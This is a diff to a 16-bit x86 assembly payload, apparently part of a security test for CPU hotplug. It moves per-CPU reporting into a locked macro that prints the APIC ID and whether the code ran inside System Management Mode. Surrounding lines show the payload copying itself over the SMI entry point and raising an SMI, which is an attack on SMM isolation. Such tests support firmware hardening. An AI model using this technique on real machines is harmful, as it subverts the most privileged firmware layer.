@@ -35,6 +35,39 @@
 2:
 .endm
 
+
+/* One line for this CPU (APIC ID in %bp, stage letter in %cl), under a
+ * lock: CPUs started together share this copy's message buffer. */
+.macro ANNOUNCE
+3:	lock btsw $0, OFF(print_lock)
+	jnc 4f
+	pause
+	jmp 3b
+4:	mov %cl, OFF(msg_stage)
+	mov %bp, %ax
+	shr $4, %al
+	mov $OFF(hexdigits), %bx
+	xlat
+	mov %al, OFF(msg_apic)
+	mov %bp, %ax
+	and $0x0f, %al
+	xlat
+	mov %al, OFF(msg_apic) + 1
+	/* Where: an SMI entry wrote a valid revision id over the pattern.
+	 * Put the pattern back, so that a later entry outside SMM does not
+	 * read this one's. */
+	mov $SAVE_SEG, %ax
+	mov %ax, %es
+	movb $'0', OFF(msg_smm)
+	cmpl $SMM_REVID, %es:SMM_REVID_OFF
+	jne 5f
+	movb $'1', OFF(msg_smm)
+	movl $SAVE_PATTERN, %es:SMM_REVID_OFF
+5:	PRINT 0x3f8
+	PRINT 0x402
+	movw $0, OFF(print_lock)
+.endm
+
 	.section .rodata.hpci_payload, "a"
 	.code16
 	.globl hpci_payload_start, hpci_payload_end, hpci_payload_dseg
@@ -45,36 +78,15 @@ hpci_payload_start:
 hpci_payload_dseg:
 	.word 0
 	mov %ax, %ds
-	mov $SAVE_SEG, %ax
-	mov %ax, %es
 
-	/* Which CPU this is: its initial APIC ID, as two hex digits. */
+	/* Which CPU this is: its initial APIC ID, kept in %bp. */
 	mov $1, %eax
 	cpuid
 	shr $24, %ebx
-	mov %bl, %dl
+	mov %bx, %bp
 	movb $1, OFF(hpci_payload_ran)(%bx)
-	mov %dl, %al
-	shr $4, %al
-	mov $OFF(hexdigits), %bx
-	xlat
-	mov %al, OFF(msg_apic)
-	mov %dl, %al
-	and $0x0f, %al
-	xlat
-	mov %al, OFF(msg_apic) + 1
-
-	/* Where: an SMI entry wrote a valid revision id over the pattern.
-	 * Put the pattern back, so that a later entry outside SMM does not
-	 * read this one's. */
-	movb $'0', OFF(msg_smm)
-	cmpl $SMM_REVID, %es:SMM_REVID_OFF
-	jne 3f
-	movb $'1', OFF(msg_smm)
-	movl $SAVE_PATTERN, %es:SMM_REVID_OFF
-3:
-	PRINT 0x3f8
-	PRINT 0x402
+	movb $'e', %cl
+	ANNOUNCE
 
 	/* The SIPI variant goes on as the seed's attacker: plant this code
 	 * at the SMI entry, then raise an SMI on every CPU, itself included. */
@@ -89,20 +101,12 @@ hpci_payload_dseg:
 	rep movsb
 	movw $ENTRY_SEG, %es:OFF(hpci_payload_dseg)
 	movb $0, %es:OFF(hpci_payload_do_smi)
-	movb $'e', %es:OFF(msg_stage)
+	movw $0, %es:OFF(print_lock)
 	mov $APM_CNT_CPU_HOTPLUG, %al
 	out %al, $APM_CNT
 	/* Back from the SMI (RSM): say so, with the same check. */
-	mov $SAVE_SEG, %ax
-	mov %ax, %es
-	movb $'a', OFF(msg_stage)
-	movb $'0', OFF(msg_smm)
-	cmpl $SMM_REVID, %es:SMM_REVID_OFF
-	jne 4f
-	movb $'1', OFF(msg_smm)
-4:
-	PRINT 0x3f8
-	PRINT 0x402
+	movb $'a', %cl
+	ANNOUNCE
 park:
 	cli
 	hlt
@@ -112,6 +116,9 @@ hexdigits:
 	.ascii "0123456789abcdef"
 hpci_payload_do_smi:
 	.byte 0
+	.balign 2
+print_lock:
+	.word 0
 msg:
 	.ascii "\nHPCI-ATTACK "
 hpci_payload_token:
